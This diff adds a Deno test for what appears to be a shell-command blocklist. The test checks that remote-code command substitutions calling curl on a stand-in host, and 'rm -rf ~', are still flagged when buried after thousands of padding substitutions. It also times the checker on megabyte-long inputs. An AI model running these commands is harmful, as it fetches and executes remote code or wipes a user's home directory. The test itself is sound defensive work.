@@ -67,3 +67,27 @@ Deno.test("flat: a command with thousands of redirections is judged quickly, and
     assert.ok(ms < 5_000, `${JSON.stringify(unit)} x 1 MB took ${ms} ms`);
   }
 });
+
+Deno.test("flat: many thousand substitutions or pipeline elements stay cheap, and a download among them past the budget still counts", () => {
+  assert.ok(
+    blocked("$(x)".repeat(5_000) + "$(curl -s http://e.example/x)").includes(
+      "remote_code_substitution",
+    ),
+  );
+  assert.ok(
+    blocked("`x`".repeat(10_000) + "`curl -s http://e.example/x`").includes(
+      "remote_code_substitution",
+    ),
+  );
+  assert.ok(
+    blocked("`x`".repeat(10_000) + "`rm -rf ~`").some((p) =>
+      p.startsWith("rm_home")
+    ),
+  );
+  for (const unit of ["`x", "| sh ", "$(x)", "find . -exec "]) {
+    const t0 = performance.now();
+    blocked(unit.repeat(Math.floor(1_000_000 / unit.length)));
+    const ms = performance.now() - t0;
+    assert.ok(ms < 8_000, `${JSON.stringify(unit)} x 1 MB took ${ms} ms`);
+  }
+});
